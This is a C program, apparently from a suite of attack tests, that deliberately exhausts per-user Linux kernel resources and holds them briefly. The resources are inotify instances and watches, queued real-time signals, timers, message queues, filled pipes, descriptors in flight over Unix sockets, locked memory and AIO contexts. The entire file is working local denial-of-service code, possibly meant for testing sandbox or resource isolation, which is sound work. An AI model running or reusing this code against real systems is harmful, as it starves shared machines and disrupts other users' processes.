/* Uses up what the kernel counts by user: inotify, pending signals, timers, message queues, pipes, descriptors in flight,
 * locked memory, asynchronous contexts; holds it all for a while. */
#include "attack.h"
#include <mqueue.h>
#include <sys/inotify.h>
#include <sys/socket.h>
int main(void)
{
	static char block[1 << 16];
	int pipes = 0, instances = 0, watches = 0, signals = 0, timers = 0, queues = 0, flying = 0, contexts = 0, fd = -1;
	for (int next; instances < 1500 && (next = inotify_init1(0)) >= 0; instances++) fd = next;
	for (char path[64]; watches < 2000; watches++) {
		snprintf(path, sizeof path, "/tmp/filled-%d", watches);
		close(open(path, O_CREAT | O_RDWR, 0600));
		if (inotify_add_watch(fd, path, IN_MODIFY) < 0) break;
	}
	sigset_t set;
	sigfillset(&set);
	sigprocmask(SIG_BLOCK, &set, NULL);
	while (signals < 200000 && sigqueue(getpid(), SIGRTMIN + 1, (union sigval){ 0 }) == 0) signals++;
	struct sigevent event = { .sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGRTMIN + 2 };
	for (timer_t timer; timers < 200000 && timer_create(CLOCK_MONOTONIC, &event, &timer) == 0;) timers++;
	for (char name[32]; queues < 256; queues++) {
		snprintf(name, sizeof name, "/q%d", queues);
		if (mq_open(name, O_CREAT | O_RDWR, 0600, NULL) == (mqd_t)-1) break;
	}
	for (int ends[2]; pipes < 64 && pipe2(ends, O_NONBLOCK) == 0; pipes++) {
		fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
		while (pipes < 16 && write(ends[1], block, sizeof block) > 0);
	}
	int pair[2];
	for (int i = 0; i < 64 && socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair) == 0; i++) {
		char control[CMSG_SPACE(32 * sizeof(int))] = { 0 }, byte = 'x';
		struct iovec data = { &byte, 1 };
		struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
		struct cmsghdr *head = CMSG_FIRSTHDR(&message);
		head->cmsg_level = SOL_SOCKET, head->cmsg_type = SCM_RIGHTS, head->cmsg_len = CMSG_LEN(32 * sizeof(int));
		for (int n = 0; n < 32; n++) ((int *)CMSG_DATA(head))[n] = pair[0];
		while (flying < 100000 && sendmsg(pair[0], &message, 0) == 1) flying += 32;
	}
	char *pages = mmap(NULL, 8 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int locked = mlock(pages, 8 << 20) == 0;
	for (unsigned long context = 0; contexts < 64 && syscall(SYS_io_setup, 4096, &context) == 0; context = 0) contexts++;
	printf("instances %d watches %d signals %d timers %d queues %d pipes %d in flight %d locked %d contexts %d\nHELD\n",
		instances, watches, signals, timers, queues, pipes, flying, locked, contexts);
	fflush(stdout);
	usleep(1500000);
	return 0;
}
